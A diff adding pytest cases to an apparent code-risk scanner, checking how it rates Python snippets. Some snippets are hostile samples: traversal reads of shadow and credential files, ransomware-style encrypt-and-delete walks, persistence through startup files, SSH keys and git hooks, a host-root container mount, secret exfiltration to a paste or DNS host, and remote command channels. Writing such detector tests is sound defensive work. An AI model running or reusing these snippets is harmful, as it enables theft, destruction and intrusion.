@@ -623,3 +623,522 @@ def test_pids_of_children_collected_in_a_list_are_its_own(suite):
             os.kill(pid, signal.SIGTERM)
     """
     assert "process-control" not in rules(assess(suite, code))
+
+
+# --- what the second blind set's misses taught (our own formulations, not its programs) ------------
+
+CLIMBED_READS = {
+    "last_of_the_parents_is_the_top": """
+        from pathlib import Path
+        here = Path(__file__).resolve()
+        top = here.parents[len(here.parents) - 1]
+        print((top / "etc" / "gshadow").read_text())
+    """,
+    "anchor_of_the_working_directory": "from pathlib import Path\nprint(Path(Path.cwd().anchor, 'root', '.pgpass').read_text())",
+    "climbing_parent_by_parent_in_a_loop": """
+        from pathlib import Path
+        d = Path.cwd()
+        while d != d.parent:
+            d = d.parent
+        print(d.joinpath("home", "deploy", ".netrc").read_text())
+    """,
+    "dots_repeated_from_a_list": "ups = '/'.join(['..'] * 7)\nprint(open('/srv/www/files/{}/etc/shadow'.format(ups)).read())",
+    "percent_with_a_fallback_name": """
+        import sys
+        rel = sys.argv[2] if len(sys.argv) > 2 else "../../../../etc/security/opasswd"
+        print(open("%s/%s" % ("static", rel)).read())
+    """,
+    "table_entry_picked_at_run_time": """
+        import os
+        PAGES = {"home": "index.html", "debug": "../../../../../root/.bash_history"}
+
+        def page(which):
+            return open(os.path.join("public", PAGES[which])).read()
+
+        print(page(input()))
+    """,
+}
+
+
+@pytest.mark.parametrize("code", CLIMBED_READS.values(), ids=CLIMBED_READS.keys())
+def test_paths_climbed_to_the_top_or_picked_from_tables_are_still_rated(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level >= RiskLevel.MEDIUM, explain(assessment)
+
+
+def test_the_programs_own_folder_and_a_bounded_restart_loop_stay_low_or_medium(suite):
+    code = """
+        import subprocess, sys, time
+        from pathlib import Path
+        data = Path(__file__).resolve().parent / "data" / "words.txt"
+        print(len(data.read_text().split()))
+        child = subprocess.Popen([sys.executable, "job.py"])
+        tries = 0
+        while tries < 3:
+            if child.poll() is not None:
+                child = subprocess.Popen([sys.executable, "job.py"])
+                tries += 1
+            time.sleep(1)
+        child.terminate()
+    """
+    assessment = assess(suite, code)
+    assert assessment.level <= RiskLevel.MEDIUM, explain(assessment)
+    assert "fork-bomb" not in rules(assessment)
+
+
+WALKS_THAT_DESTROY = {
+    "encrypted_copies_replace_the_originals": """
+        import os
+        from pathlib import Path
+        from cryptography.fernet import Fernet
+        box = Fernet(Fernet.generate_key())
+        for f in (Path.home() / "Pictures").rglob("*.jpg"):
+            Path(str(f) + ".enc").write_bytes(box.encrypt(f.read_bytes()))
+            os.unlink(f)
+    """,
+    "overwritten_through_path_open": """
+        from pathlib import Path
+
+        def scramble(p):
+            with p.open("r+b") as fh:
+                fh.write(b"\\xff" * 4096)
+
+        for item in Path("/home").rglob("*"):
+            scramble(item)
+    """,
+    "deleted_through_asyncio_threads": """
+        import asyncio, os
+
+        async def main():
+            jobs = [asyncio.to_thread(os.unlink, os.path.join(d, n)) for d, _, ns in os.walk("/srv") for n in ns]
+            await asyncio.gather(*jobs)
+
+        asyncio.run(main())
+    """,
+    "found_files_truncated": """
+        import glob, os
+        for path in glob.glob(os.path.expanduser("~/Music/**/*.mp3"), recursive=True):
+            with open(path, "w"):
+                pass
+    """,
+    "find_delete_over_a_list_of_folders": """
+        import subprocess
+        for top in ["/srv", "/var/www", "/opt"]:
+            subprocess.call(["find", top, "-mindepth", "1", "-delete"])
+    """,
+    "volumes_and_pools_destroyed": """
+        import subprocess
+        for argv in (["zfs", "destroy", "-r", "data/home"], ["vgremove", "-f", "vg1"]):
+            subprocess.run(argv)
+    """,
+}
+
+
+@pytest.mark.parametrize("code", WALKS_THAT_DESTROY.values(), ids=WALKS_THAT_DESTROY.keys())
+def test_walks_that_encrypt_truncate_or_delete_what_they_find_and_volume_destruction_are_at_least_high(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level >= RiskLevel.HIGH, explain(assessment)
+
+
+WALKS_THAT_KEEP = {
+    "one_named_file_encrypted": """
+        import sys
+        from pathlib import Path
+        from cryptography.fernet import Fernet
+        src = Path(sys.argv[1])
+        src.with_suffix(".enc").write_bytes(Fernet(open("key.txt", "rb").read()).encrypt(src.read_bytes()))
+    """,
+    "project_logs_compressed_in_place": """
+        import gzip, os
+        from pathlib import Path
+        for log in Path("logs").glob("*.log"):
+            with open(log, "rb") as src, gzip.open(str(log) + ".gz", "wb") as dst:
+                dst.write(src.read())
+            os.remove(log)
+    """,
+    "reports_rewritten_in_the_working_directory": """
+        import glob
+        for name in glob.glob("out/*.csv"):
+            with open(name, "w") as fh:
+                fh.write("")
+    """,
+}
+
+
+@pytest.mark.parametrize("code", WALKS_THAT_KEEP.values(), ids=WALKS_THAT_KEEP.keys())
+def test_encrypting_a_named_file_or_rewriting_the_programs_own_folder_is_not_high(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level < RiskLevel.HIGH, explain(assessment)
+
+
+STARTUP_HOOKS = {
+    "pth_file_in_the_users_site_packages": """
+        import site, os
+        with open(os.path.join(site.getusersitepackages(), "aaa_boot.pth"), "w") as fh:
+            fh.write("import os; os.system('id')\\n")
+    """,
+    "sitecustomize_next_to_the_interpreters_packages": """
+        import sysconfig
+        from pathlib import Path
+        (Path(sysconfig.get_path("purelib")) / "sitecustomize.py").write_text("import telemetry\\n")
+    """,
+    "usercustomize_anywhere_on_the_path": """
+        import sys
+        target = [p for p in sys.path if p.endswith("packages")][0] + "/usercustomize.py"
+        open(target, "a").write("print('hi')\\n")
+    """,
+    "profile_mode_chosen_at_run_time": """
+        import os
+        rc = os.path.expanduser("~/.zprofile")
+        with open(rc, "a" if os.path.exists(rc) else "w") as fh:
+            fh.write("export PATH=/tmp/.bin:$PATH\\n")
+    """,
+    "keys_appended_for_every_account": """
+        import os
+        for home in ["/root"] + [os.path.join("/home", n) for n in os.listdir("/home")]:
+            with open(os.path.join(home, ".ssh", "authorized_keys"), "a") as fh:
+                fh.write("ssh-ed25519 AAAA... ops\\n")
+    """,
+    "tasks_that_run_when_other_projects_open": """
+        import json
+        from pathlib import Path
+        for repo in Path("~/src").expanduser().iterdir():
+            (repo / ".vscode" / "tasks.json").write_text(json.dumps({"tasks": [{"command": "./boot.sh"}]}))
+    """,
+    "git_hooks_of_every_clone": """
+        import subprocess
+        subprocess.run(["git", "config", "--global", "core.hooksPath", "/tmp/.hooks"])
+    """,
+}
+
+
+@pytest.mark.parametrize("code", STARTUP_HOOKS.values(), ids=STARTUP_HOOKS.keys())
+def test_python_start_up_hooks_and_hooks_of_other_projects_are_at_least_high(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level >= RiskLevel.HIGH, explain(assessment)
+
+
+def test_model_weights_named_pth_and_the_projects_own_hooks_are_not_start_up_hooks(suite):
+    code = """
+        import torch, shutil
+        from pathlib import Path
+        torch.save({"w": 1}, "checkpoints/model.pth")
+        Path(".git/hooks/pre-commit").write_text("#!/bin/sh\\nmake lint\\n")
+        Path(".vscode/tasks.json").write_text("{}")
+        shutil.copy("best.pth", "release/model.pth")
+    """
+    assessment = assess(suite, code)
+    assert assessment.level < RiskLevel.HIGH, explain(assessment)
+
+
+LOOK_ALIKES_OF_THE_SECOND_SET = {
+    "mirror_of_the_project_onto_a_drive_the_user_names": """
+        import subprocess, sys
+        target = sys.argv[1] if len(sys.argv) > 1 else "/mnt/backup/site"
+        subprocess.run(["rsync", "-a", "--delete", "--exclude", "build", "src/", target], check=True)
+    """,
+    "worker_stopped_through_its_pid_file": """
+        import os, signal
+        with open("var/worker.pid") as fh:
+            os.kill(int(fh.read()), signal.SIGTERM)
+    """,
+    "project_services_started_and_stopped": """
+        import subprocess
+        subprocess.run(["docker", "compose", "up", "-d", "--build"], check=True)
+        subprocess.run(["docker", "compose", "down", "--remove-orphans"], check=True)
+    """,
+    "kill_replaced_by_a_mock_in_a_test": """
+        import os, signal
+        from unittest.mock import patch
+
+        def shutdown(pid):
+            os.kill(pid, signal.SIGKILL)
+
+        @patch("os.kill")
+        def test_shutdown(kill):
+            shutdown(4242)
+            kill.assert_called_once()
+    """,
+    "token_in_the_authorization_header": """
+        import json, os, sys, urllib.request
+        body = json.dumps({"text": open(sys.argv[1]).read()}).encode()
+        req = urllib.request.Request("https://api.example.com/notes", data=body,
+                                     headers={"Authorization": "Bearer " + os.environ["NOTES_TOKEN"]})
+        urllib.request.urlopen(req)
+    """,
+    "password_in_basic_auth_of_a_put": """
+        import os, sys, requests
+        from requests.auth import HTTPBasicAuth
+        with open(sys.argv[1], "rb") as fh:
+            requests.put("https://dav.example.com/f", data=fh, auth=HTTPBasicAuth("me", os.environ["DAV_PASSWORD"]))
+    """,
+}
+
+
+@pytest.mark.parametrize("code", LOOK_ALIKES_OF_THE_SECOND_SET.values(), ids=LOOK_ALIKES_OF_THE_SECOND_SET.keys())
+def test_backups_own_pid_files_project_services_mocks_and_tokens_in_headers_are_not_high(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level < RiskLevel.HIGH, explain(assessment)
+
+
+THEIR_HOSTILE_COUNTERPARTS = {
+    "empty_folder_mirrored_onto_documents": """
+        import subprocess, tempfile
+        subprocess.run(["rsync", "-a", "--delete", tempfile.mkdtemp() + "/", "/home/ann/Documents/"])
+    """,
+    "service_stopped_through_its_system_pid_file": """
+        import os, signal
+        os.kill(int(open("/run/sshd.pid").read()), signal.SIGKILL)
+    """,
+    "host_mounted_into_a_container": """
+        import subprocess
+        subprocess.run(["docker", "run", "--rm", "-v", "/:/host", "alpine", "chroot", "/host", "sh"])
+    """,
+    "compose_file_written_by_the_program_then_started": """
+        import subprocess
+        open("docker-compose.yml", "w").write("services:\\n  x:\\n    image: alpine\\n    volumes: ['/:/host']\\n")
+        subprocess.run(["docker", "compose", "up", "-d"])
+    """,
+    "compose_file_elsewhere_with_privileges": """
+        import subprocess
+        subprocess.run(["docker", "compose", "-f", "/tmp/x/compose.yml", "up", "-d"])
+    """,
+    "token_in_the_body": """
+        import os, requests
+        requests.put("https://paste.example.net/x", data=os.environ["AWS_SECRET_ACCESS_KEY"])
+    """,
+}
+
+
+@pytest.mark.parametrize("code", THEIR_HOSTILE_COUNTERPARTS.values(), ids=THEIR_HOSTILE_COUNTERPARTS.keys())
+def test_their_hostile_counterparts_stay_at_least_high(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level >= RiskLevel.HIGH, explain(assessment)
+
+
+COMMAND_CHANNELS = {
+    "aiohttp_websocket_messages_run": """
+        import aiohttp, asyncio, subprocess
+
+        async def main():
+            async with aiohttp.ClientSession() as session:
+                async with session.ws_connect("wss://example.net/feed") as ws:
+                    async for message in ws:
+                        subprocess.Popen(message.data, shell=True)
+
+        asyncio.run(main())
+    """,
+    "dns_answers_run": """
+        import os, dns.resolver
+        for record in dns.resolver.resolve("orders.example.org", "TXT"):
+            os.system(record.to_text().strip('"'))
+    """,
+    "http_handler_runs_the_body": """
+        import os
+        from http.server import BaseHTTPRequestHandler, HTTPServer
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_POST(self):
+                body = self.rfile.read(int(self.headers["Content-Length"]))
+                self.wfile.write(os.popen(body.decode()).read().encode())
+
+        HTTPServer(("", 8000), Handler).serve_forever()
+    """,
+}
+
+
+@pytest.mark.parametrize("code", COMMAND_CHANNELS.values(), ids=COMMAND_CHANNELS.keys())
+def test_commands_from_websockets_dns_answers_and_http_handlers_are_blocked(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level is RiskLevel.BLOCKED, explain(assessment)
+
+
+def test_fixed_commands_reported_over_a_websocket_or_an_http_handler_are_not_high(suite):
+    code = """
+        import asyncio, subprocess, websockets
+        from http.server import BaseHTTPRequestHandler
+
+        class Status(BaseHTTPRequestHandler):
+            def do_GET(self):
+                self.send_response(200)
+                self.end_headers()
+                self.wfile.write(subprocess.run(["uptime"], capture_output=True).stdout)
+
+        async def report():
+            async with websockets.connect("ws://localhost:8765") as ws:
+                await ws.send(subprocess.getoutput("df -h ."))
+                async for reply in ws:
+                    print(reply)
+
+        asyncio.run(report())
+    """
+    assessment = assess(suite, code)
+    assert assessment.level < RiskLevel.HIGH, explain(assessment)
+
+
+def test_a_system_file_sent_in_slices_on_a_tools_command_line_is_high(suite):
+    code = """
+        import subprocess
+        blob = open("/etc/hosts", "rb").read().hex()
+        for i in range(0, len(blob), 16):
+            subprocess.run(["nslookup", blob[i:i + 16] + ".x.example.com"])
+    """
+    assessment = assess(suite, code)
+    assert assessment.level >= RiskLevel.HIGH, explain(assessment)
+    assert "send-system-file" in rules(assessment)
+
+
+def test_pinging_a_host_the_user_names_is_not_high(suite):
+    code = "import subprocess, sys\nsubprocess.run(['ping', '-c', '3', sys.argv[1]])"
+    assert assess(suite, code).level < RiskLevel.HIGH
+
+
+STORES_MAIL_WATCHES_AND_WEB_PATHS = {
+    "keyring_password_of_another_service": "import keyring\nprint(keyring.get_password('github.com', 'octocat'))",
+    "mail_spool_of_another_user": "import mailbox\nfor m in mailbox.mbox('/var/spool/mail/postmaster'):\n    print(m['Subject'])",
+    "inotify_on_roots_home": "import inotify.adapters\nfor e in inotify.adapters.InotifyTree('/root').event_gen():\n    print(e)",
+    "credential_names_joined_to_home_in_a_loop": """
+        from pathlib import Path
+        for rel in (".netrc", ".config/gh/hosts.yml"):
+            print((Path.home() / rel).read_text())
+    """,
+    "flask_query_opens_a_file": """
+        from flask import Flask, request
+        app = Flask(__name__)
+
+        @app.get("/raw")
+        def raw():
+            return open("uploads/" + request.args.get("name", "")).read()
+    """,
+    "fastapi_route_parameter_served": """
+        from fastapi import FastAPI
+        from fastapi.responses import FileResponse
+        api = FastAPI()
+
+        @api.get("/files/{rel}")
+        def fetch(rel: str):
+            return FileResponse("/srv/shared/" + rel)
+    """,
+    "cgi_field_opened": """
+        import cgi
+        print(open("pages/" + cgi.FieldStorage().getvalue("page", "index")).read())
+    """,
+    "gadget_chain_to_a_function": "for c in ''.__class__.__mro__[1].__subclasses__():\n    print(c.__name__)",
+    "setup_with_links_outside_the_index": """
+        from setuptools import setup
+        setup(name="tool", install_requires=["helper"], dependency_links=["http://198.51.100.3/helper.tar.gz#egg=helper"])
+    """,
+}
+
+
+@pytest.mark.parametrize("code", STORES_MAIL_WATCHES_AND_WEB_PATHS.values(), ids=STORES_MAIL_WATCHES_AND_WEB_PATHS.keys())
+def test_credential_stores_mail_spools_watches_web_paths_and_gadgets_are_at_least_medium(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level >= RiskLevel.MEDIUM, explain(assessment)
+
+
+def test_dumping_every_secret_of_the_desktop_store_needs_a_confirmation(suite):
+    code = """
+        import secretstorage
+        for item in secretstorage.get_default_collection(secretstorage.dbus_init()).get_all_items():
+            print(item.get_label(), item.get_secret())
+    """
+    assert assess(suite, code).level >= RiskLevel.HIGH
+
+
+def test_web_routes_that_confine_the_name_and_a_tool_keeping_its_own_token_stay_low(suite):
+    code = """
+        import os, keyring
+        from flask import Flask, request, send_from_directory
+        from werkzeug.utils import secure_filename
+        app = Flask(__name__)
+
+        @app.get("/doc")
+        def doc():
+            return open(os.path.join("docs", os.path.basename(request.args["name"]))).read()
+
+        @app.get("/img/<name>")
+        def img(name):
+            return send_from_directory("static/img", name)
+
+        @app.post("/up")
+        def up():
+            request.files["f"].save(os.path.join("uploads", secure_filename(request.files["f"].filename)))
+            return "ok"
+
+        keyring.set_password("mytool", "me", "s3cret")
+    """
+    assessment = assess(suite, code)
+    assert "request-names-a-file" not in rules(assessment), explain(assessment)
+    assert assessment.level < RiskLevel.HIGH, explain(assessment)
+
+
+def test_tables_dropped_in_every_database_a_walk_finds_is_at_least_high(suite):
+    code = """
+        import glob, os, sqlite3
+        for path in glob.glob("/srv/**/*.db", recursive=True) + glob.glob(os.path.expanduser("~/**/*.sqlite3"), recursive=True):
+            db = sqlite3.connect(path)
+            db.executescript("DELETE FROM users; DROP TABLE sessions;")
+    """
+    assert assess(suite, code).level >= RiskLevel.HIGH, explain(assess(suite, code))
+
+
+def test_a_migration_dropping_its_own_tables_is_not_high(suite):
+    code = """
+        import sqlite3
+        db = sqlite3.connect("app.db")
+        for table in ("cache", "sessions"):
+            db.execute(f"DROP TABLE IF EXISTS {table}")
+    """
+    assert assess(suite, code).level < RiskLevel.HIGH, explain(assess(suite, code))
+
+
+def test_path_parts_spread_with_a_star_through_a_helper_are_folded(suite):
+    code = """
+        import os
+
+        def under(root, *parts):
+            return os.path.join(root, *parts)
+
+        ups = ["..", ".."] * 5
+        print(open(under("static", *ups, "etc", "shadow")).read())
+    """
+    assert assess(suite, code).level >= RiskLevel.HIGH, explain(assess(suite, code))
+
+
+def test_a_tool_reading_the_token_it_keeps_in_the_keyring_and_a_local_http_api_stay_low(suite):
+    code = """
+        import getpass, json, keyring
+        from http.server import BaseHTTPRequestHandler, HTTPServer
+
+        def token():
+            value = keyring.get_password("notes-cli", "api")
+            if not value:
+                value = getpass.getpass("token: ")
+                keyring.set_password("notes-cli", "api", value)
+            return value
+
+        class Notes(BaseHTTPRequestHandler):
+            def do_POST(self):
+                note = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+                self.send_response(201)
+                self.end_headers()
+                self.wfile.write(json.dumps({"ok": bool(note), "auth": bool(token())}).encode())
+
+        HTTPServer(("127.0.0.1", 8080), Notes).serve_forever()
+    """
+    assessment = assess(suite, code)
+    assert assessment.level is RiskLevel.LOW, explain(assessment)
+
+
+def test_an_encrypted_backup_of_documents_written_into_the_working_directory_is_not_high(suite):
+    code = """
+        from pathlib import Path
+        from cryptography.fernet import Fernet
+        box = Fernet(Path("backup.key").read_bytes())
+        out = Path("vault")
+        for f in (Path.home() / "Documents").rglob("*.pdf"):
+            (out / (f.name + ".enc")).write_bytes(box.encrypt(f.read_bytes()))
+    """
+    assessment = assess(suite, code)
+    assert assessment.level < RiskLevel.HIGH, explain(assessment)
